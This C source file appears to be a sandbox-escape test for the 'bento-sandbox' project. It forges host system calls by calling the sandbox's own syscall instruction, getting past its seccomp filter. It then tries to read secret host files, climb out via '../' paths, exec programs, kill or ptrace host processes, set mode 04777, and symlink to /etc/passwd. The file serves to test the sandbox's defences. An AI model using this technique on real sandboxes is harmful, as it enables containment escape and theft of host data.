// jump OP ARGS...: a jump into bento's own code with forged registers.
//
// bento-sandbox's host system calls are made from its hostcall_text
// section, and the seccomp filter lets calls from there through. The guest
// cannot see where that is (its /proc/self/maps is bento's own view), so
// run.sh reads /proc/PID/maps of the sandbox process on the host, adds the
// offset of the `syscall` instruction in host_syscall, and writes the
// address to our stdin after we print "ready". We then load rax, rdi, rsi,
// rdx, r10, r8, r9 ourselves and `call` that instruction (it is followed by
// `ret`): the host kernel sees a system call from bento's text.
//
// OPs (each tried with forged calls only; results are printed, run.sh
// checks the effects on the host):
//   openat SECRET        openat(AT_FDCWD, SECRET) + read + write to stdout
//   openat2 SECRET       openat2(AT_FDCWD, SECRET, {O_RDONLY}) + read + write
//   climb SECRET         openat2(fd, "../../..SECRET") for fd 0..1023 + read
//   pathmeta PATH        openat2(AT_FDCWD, PATH, {O_PATH|O_NOFOLLOW}) +
//                        fstat: prints "meta dev=D ino=N" on success
//   readlink PATH        readlinkat(AT_FDCWD, PATH): prints "link TEXT"
//   climbmeta PATH LINK  for fd 0..1023: openat2(fd, "../../..PATH",
//                        {O_PATH|O_NOFOLLOW}) + fstat, and
//                        readlinkat(fd, "../../..LINK"), printed as above
//   execve PROG MARKER   execve(PROG, {"touch", MARKER})
//   socket PORT          socket(AF_INET) + connect 127.0.0.1:PORT
//   unix PATH            socket(AF_UNIX) + connect to the host socket PATH
//   kill PID [no-kill-all]  kill(PID, SIGTERM), tgkill(PID, PID, SIGTERM),
//                        then (only if those failed, and unless told not
//                        to) kill(-1, SIGKILL)
//   ptrace PID           ptrace(PTRACE_ATTACH, PID)
//   chmod PATH           fchmodat(AT_FDCWD, PATH, 04777)
//   utime PATH           utimensat(AT_FDCWD, PATH, {0, 0}, 0)
//   fdmeta PATH          openat2(AT_FDCWD, PATH, O_RDONLY) (a granted,
//                        read-only file) then fchmod(04777),
//                        utimensat(fd, NULL, {0, 0}), ftruncate(0), write
//   link SECRET DEST     linkat(AT_FDCWD, SECRET, AT_FDCWD, DEST, 0)
//   rename SECRET DEST   renameat2(AT_FDCWD, SECRET, AT_FDCWD, DEST, 0)
//   unlink PATH          unlinkat(AT_FDCWD, PATH, 0)
//   mkdir PATH           mkdirat(AT_FDCWD, PATH, 0755)
//   symlink PATH         symlinkat("/etc/passwd", AT_FDCWD, PATH)
//   create PATH          openat2(AT_FDCWD, PATH, {O_CREAT|O_WRONLY}) + write
//   forbidden            fork, and in each child one host call that is not
//                        on the allow-list (or fails its argument check),
//                        with harmless arguments; prints how each child ended
#include "esc.h"
#include <fcntl.h>
#include <signal.h>
#include <sched.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/un.h>

static uintptr_t target;

// A system call made by bento's `syscall` instruction with our registers.
// The call pushes a return address: step over the red zone first.
static long forged(long nr, long a, long b, long c, long d, long e, long f)
{
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	register long r9 __asm__("r9") = f;
	register uintptr_t t __asm__("r12") = target;
	long ret;
	__asm__ volatile("sub $128, %%rsp\n\t"
			 "call *%[t]\n\t"
			 "add $128, %%rsp"
			 : "=a"(ret)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [t] "r"(t)
			 : "rcx", "r11", "memory");
	return ret;
}

#define F0(nr) forged((nr), 0, 0, 0, 0, 0, 0)
#define F1(nr, a) forged((nr), (long)(a), 0, 0, 0, 0, 0)
#define F2(nr, a, b) forged((nr), (long)(a), (long)(b), 0, 0, 0, 0)
#define F3(nr, a, b, c) forged((nr), (long)(a), (long)(b), (long)(c), 0, 0, 0)
#define F4(nr, a, b, c, d) forged((nr), (long)(a), (long)(b), (long)(c), (long)(d), 0, 0)
#define F5(nr, a, b, c, d, e) forged((nr), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), 0)

// Read an open host descriptor to the end and print it, with forged calls.
static void forged_dump(long fd)
{
	char buf[4096];
	long n;
	while ((n = F3(SYS_read, fd, buf, sizeof(buf))) > 0)
		F3(SYS_write, 1, buf, n);
	F1(SYS_close, fd);
}

// O_PATH open (which Landlock does not check) + fstat: a host file's
// metadata, printed as "meta dev=D ino=N" (what st_dev and st_ino are).
static void forged_meta(long dir, const char *path)
{
	struct open_how how = { .flags = O_PATH | O_NOFOLLOW | O_CLOEXEC };
	struct stat st;
	long fd = F4(SYS_openat2, dir, path, &how, sizeof(how));
	report("openat2 O_PATH", fd);
	if (fd < 0)
		return;
	long r = F2(SYS_fstat, fd, &st);
	report("fstat", r);
	if (r == 0) {
		out("meta dev=");
		out_num((long)st.st_dev);
		out(" ino=");
		out_num((long)st.st_ino);
		out("\n");
	}
	F1(SYS_close, fd);
}

// readlinkat of a host symlink, printed as "link TEXT".
static void forged_readlink(long dir, const char *path)
{
	char buf[4096];
	long n = F4(SYS_readlinkat, dir, path, buf, sizeof(buf) - 1);
	report("readlinkat", n);
	if (n > 0) {
		buf[n] = 0;
		out("link ");
		out(buf);
		out("\n");
	}
}

static void forbidden(void)
{
	static const struct {
		const char *name;
		long nr, a, b, c;
	} calls[] = {
		{ "openat", SYS_openat, AT_FDCWD, (long)"/etc/passwd", O_RDONLY },
		{ "execve", SYS_execve, (long)"/usr/bin/true", 0, 0 },
		{ "socket AF_PACKET", SYS_socket, AF_PACKET, SOCK_RAW, 0 },
		{ "socket AF_NETLINK", SYS_socket, AF_NETLINK, SOCK_RAW, 0 },
		{ "ptrace", SYS_ptrace, PTRACE_TRACEME, 0, 0 },
		{ "mount", SYS_mount, (long)"none", (long)"/nonexistent-bento", (long)"tmpfs" },
		{ "unshare", SYS_unshare, CLONE_NEWUSER, 0, 0 },
		{ "setns", SYS_setns, 0, 0, 0 },
		{ "prctl", SYS_prctl, PR_SET_DUMPABLE, 1, 0 },
		{ "seccomp", SYS_seccomp, 0, 0, 0 },
		{ "io_uring_setup", SYS_io_uring_setup, 1, 0, 0 },
		{ "bpf", SYS_bpf, 0, 0, 0 },
		{ "userfaultfd", SYS_userfaultfd, 0, 0, 0 },
		{ "process_vm_writev", SYS_process_vm_writev, 1, 0, 0 },
		{ "open_by_handle_at", SYS_open_by_handle_at, AT_FDCWD, 0, 0 },
		{ "chroot", SYS_chroot, (long)"/", 0, 0 },
		{ "setuid", SYS_setuid, 0, 0, 0 },
		{ "chown", SYS_chown, (long)"/nonexistent-bento", 0, 0 },
		{ "fchmodat2", 452, AT_FDCWD, (long)"/nonexistent-bento", 0777 },
		{ "ioctl TIOCSTI", SYS_ioctl, 0, TIOCSTI, (long)"x" },
		{ "clone NEWUSER", SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0 },
		{ "clone3", SYS_clone3, 0, 0, 0 },
		{ "futex op 14", SYS_futex, 0, 14, 0 },
		{ "fcntl F_SETOWN", SYS_fcntl, 0, F_SETOWN, 0 },
		{ "arch_prctl GET_CPUID", SYS_arch_prctl, 0x1011, 0, 0 },
		{ "sched_setaffinity", SYS_sched_setaffinity, 0, 0, 0 },
		{ "init_module", SYS_init_module, 0, 0, 0 },
		{ "mknodat S_IFCHR", SYS_mknodat, AT_FDCWD, (long)"/tmp/bento-esc-dev", S_IFCHR | 0666 },
		{ "mknodat S_IFREG", SYS_mknodat, AT_FDCWD, (long)"/tmp/bento-esc-reg", S_IFREG | 0666 },
	};
	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		long pid = RAW0(SYS_fork);
		if (pid == 0) {
			long r = F3(calls[i].nr, calls[i].a, calls[i].b, calls[i].c);
			RAW1(SYS_exit_group, r == 0 ? 40 : 41);
		}
		int st = 0;
		RAW4(SYS_wait4, pid, &st, 0, 0);
		char line[128];
		if (WIFSIGNALED(st))
			snprintf(line, sizeof(line), "%s: killed by signal %d\n", calls[i].name, WTERMSIG(st));
		else
			snprintf(line, sizeof(line), "%s: exited %d\n", calls[i].name, WEXITSTATUS(st));
		out(line);
	}
}

int main(int argc, char **argv, char **envp)
{
	if (argc < 2)
		return 2;
	out("ready\n");
	char line[64];
	read_line(line, sizeof(line));
	target = (uintptr_t)strtoull(line, NULL, 16);
	if (!target) {
		out("no address\n");
		return 3;
	}
	// A harmless forged call first: had the address been wrong, we would
	// have crashed here, and run.sh would not see "jumped".
	if (F0(SYS_getpid) <= 0) {
		out("forged getpid failed\n");
		return 4;
	}
	out("jumped\n");
	const char *op = argv[1], *a1 = argc > 2 ? argv[2] : "", *a2 = argc > 3 ? argv[3] : "";
	struct open_how how = { .flags = O_RDONLY };
	long r;
	if (!strcmp(op, "openat")) {
		r = F4(SYS_openat, AT_FDCWD, a1, O_RDONLY, 0);
		report("openat", r);
		if (r >= 0)
			forged_dump(r);
	} else if (!strcmp(op, "openat2")) {
		r = F4(SYS_openat2, AT_FDCWD, a1, &how, sizeof(how));
		report("openat2", r);
		if (r >= 0)
			forged_dump(r);
	} else if (!strcmp(op, "climb")) {
		static char rel[4096];
		strcpy(rel, "../../../../../../../../../../../../../../../..");
		strncat(rel, a1, sizeof(rel) - strlen(rel) - 1);
		for (long fd = 0; fd < 1024; fd++) {
			r = F4(SYS_openat2, fd, rel, &how, sizeof(how));
			if (r == -9 /* EBADF */ || r == -20 /* ENOTDIR */)
				continue;
			report("openat2 climbing from fd", fd);
			report("  result", r);
			if (r >= 0)
				forged_dump(r);
		}
	} else if (!strcmp(op, "pathmeta")) {
		forged_meta(AT_FDCWD, a1);
	} else if (!strcmp(op, "readlink")) {
		forged_readlink(AT_FDCWD, a1);
	} else if (!strcmp(op, "climbmeta")) {
		static char up[] = "../../../../../../../../../../../../../../../..";
		static char rel[4096], rel_link[4096];
		strcpy(rel, up);
		strncat(rel, a1, sizeof(rel) - strlen(rel) - 1);
		strcpy(rel_link, up);
		strncat(rel_link, a2, sizeof(rel_link) - strlen(rel_link) - 1);
		for (long fd = 0; fd < 1024; fd++) {
			struct stat st;
			if (F2(SYS_fstat, fd, &st) < 0 || !S_ISDIR(st.st_mode))
				continue;
			report("climbing from fd", fd);
			forged_meta(fd, rel);
			forged_readlink(fd, rel_link);
		}
	} else if (!strcmp(op, "execve")) {
		char *args[] = { "touch", (char *)a2, NULL };
		report("execve", F3(SYS_execve, a1, args, envp));
	} else if (!strcmp(op, "socket")) {
		long s = F3(SYS_socket, AF_INET, SOCK_STREAM, 0);
		report("socket", s);
		struct sockaddr_in a = { .sin_family = AF_INET };
		a.sin_port = htons((uint16_t)atoi(a1));
		a.sin_addr.s_addr = htonl(0x7f000001);
		if (s >= 0)
			report("connect", F3(SYS_connect, s, &a, sizeof(a)));
	} else if (!strcmp(op, "unix")) {
		long s = F3(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
		report("socket AF_UNIX", s);
		struct sockaddr_un a = { .sun_family = AF_UNIX };
		strncpy(a.sun_path, a1, sizeof(a.sun_path) - 1);
		if (s >= 0)
			report("connect", F3(SYS_connect, s, &a, sizeof(a)));
	} else if (!strcmp(op, "kill")) {
		long pid = atol(a1);
		long r1 = F2(SYS_kill, pid, SIGTERM);
		report("kill PID SIGTERM", r1);
		long r2 = F3(SYS_tgkill, pid, pid, SIGTERM);
		report("tgkill PID PID SIGTERM", r2);
		// Should the scoping not hold, kill(-1) would hit every process of
		// this uid on the host: try it only when the two above failed.
		if (r1 < 0 && r2 < 0 && strcmp(a2, "no-kill-all"))
			report("kill -1 SIGKILL", F2(SYS_kill, -1, SIGKILL));
		else
			out("kill -1 not tried: a signal got out\n");
	} else if (!strcmp(op, "ptrace")) {
		report("ptrace ATTACH", F4(SYS_ptrace, PTRACE_ATTACH, atol(a1), 0, 0));
	} else if (!strcmp(op, "chmod")) {
		report("fchmodat", F3(SYS_fchmodat, AT_FDCWD, a1, 04777));
	} else if (!strcmp(op, "utime")) {
		long ts[4] = { 0, 0, 0, 0 };
		report("utimensat path", F4(SYS_utimensat, AT_FDCWD, a1, ts, 0));
	} else if (!strcmp(op, "fdmeta")) {
		long ts[4] = { 0, 0, 0, 0 };
		long fd = F4(SYS_openat2, AT_FDCWD, a1, &how, sizeof(how));
		report("openat2 granted read-only file", fd);
		report("fchmod", F2(SYS_fchmod, fd, 04777));
		report("utimensat fd", F4(SYS_utimensat, fd, 0, ts, 0));
		report("ftruncate", F2(SYS_ftruncate, fd, 0));
		report("write", F3(SYS_write, fd, "escaped\n", 8));
	} else if (!strcmp(op, "link")) {
		report("linkat", F5(SYS_linkat, AT_FDCWD, a1, AT_FDCWD, a2, 0));
	} else if (!strcmp(op, "rename")) {
		report("renameat2", F5(SYS_renameat2, AT_FDCWD, a1, AT_FDCWD, a2, 0));
	} else if (!strcmp(op, "unlink")) {
		report("unlinkat", F3(SYS_unlinkat, AT_FDCWD, a1, 0));
	} else if (!strcmp(op, "mkdir")) {
		report("mkdirat", F3(SYS_mkdirat, AT_FDCWD, a1, 0755));
	} else if (!strcmp(op, "symlink")) {
		report("symlinkat", F3(SYS_symlinkat, "/etc/passwd", AT_FDCWD, a1));
	} else if (!strcmp(op, "create")) {
		struct open_how c = { .flags = O_CREAT | O_WRONLY, .mode = 0644 };
		r = F4(SYS_openat2, AT_FDCWD, a1, &c, sizeof(c));
		report("openat2 O_CREAT", r);
		if (r >= 0)
			report("write", F3(SYS_write, r, "escaped\n", 8));
	} else if (!strcmp(op, "forbidden")) {
		forbidden();
	} else {
		out("unknown op\n");
		return 2;
	}
	out("end\n");
	return 0;
}
